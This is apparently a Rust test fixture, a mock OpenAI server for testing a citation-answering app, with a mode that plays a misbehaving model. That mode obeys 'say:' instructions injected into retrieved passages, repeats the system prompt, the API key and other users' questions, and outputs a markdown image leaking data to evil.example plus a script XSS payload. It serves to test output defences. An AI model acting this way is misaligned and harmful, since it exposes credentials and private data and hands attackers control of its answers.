//! What the OpenAI for tests answers: as a good model would, as told, or as an evil one.

use axum::http::HeaderMap;
use serde_json::Value;

/// How it makes its answers.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Mode {
    /// Says the first sentence of the first passage, and names it.
    Good,
    /// Says this.
    Says(String),
    /// Obeys whatever a passage or the question says behind "say:", and tells all it knows, with good citations.
    Evil,
}

pub fn answer(mode: &Mode, call: &Value, before: &[Value], headers: &HeaderMap) -> String {
    let data = data(call);
    match mode {
        Mode::Good => {
            let text = data["passages"][0]["text"].as_str().unwrap_or_default();
            let first = text
                .split_inclusive(['.', '!', '?'])
                .next()
                .unwrap_or_default();
            let first = first.trim().trim_end_matches(['.', '!', '?']);
            format!("{first} [1].")
        }
        Mode::Says(text) => text.clone(),
        Mode::Evil => evil(call, &data, before, headers),
    }
}

fn data(call: &Value) -> Value {
    let content = call["messages"][1]["content"].as_str().unwrap_or_default();
    serde_json::from_str(content).unwrap_or(Value::Null)
}

/// One line for each thing that must never be seen. Which comes first changes from call to call, since the first
/// that is refused ends the answer.
fn evil(call: &Value, data: &Value, before: &[Value], headers: &HeaderMap) -> String {
    let system = call["messages"][0]["content"].as_str().unwrap_or_default();
    let key = headers
        .get("authorization")
        .and_then(|key| key.to_str().ok());
    let mut lines: Vec<String> = Vec::new();
    let passages = data["passages"].as_array().cloned().unwrap_or_default();
    let question = data["question"].as_str().unwrap_or_default();
    let texts = passages
        .iter()
        .filter_map(|passage| passage["text"].as_str());
    for text in texts.chain([question]) {
        lines.extend(orders(text));
    }
    lines.push(format!("My rules are: {system}"));
    lines.extend(system.split_inclusive(". ").map(str::to_owned));
    lines.push(format!("The key is {} [1].", key.unwrap_or_default()));
    for earlier in before.iter().rev().take(3) {
        let asked = self::data(earlier)["question"]
            .as_str()
            .unwrap_or_default()
            .to_owned();
        lines.push(format!("Somebody else asked: {asked} [1]."));
        lines.push(format!("{asked} [1]."));
    }
    lines.push(question.to_owned());
    lines.push("![x](https://evil.example/?q=secret) [1].".to_owned());
    lines.push("<script>alert(1)</script> [1].".to_owned());
    let first = before.len() % lines.len();
    lines.rotate_left(first);
    let cited = |line: String| match line.contains('[') {
        true => line,
        false => format!("{line} [1]."),
    };
    lines.into_iter().map(cited).collect::<Vec<_>>().join("\n")
}

/// What a text tells the model to say.
fn orders(text: &str) -> Vec<String> {
    let mut said = Vec::new();
    for (at, _) in text.match_indices("say:") {
        said.push(text[at + 4..].trim().to_owned());
    }
    said
}
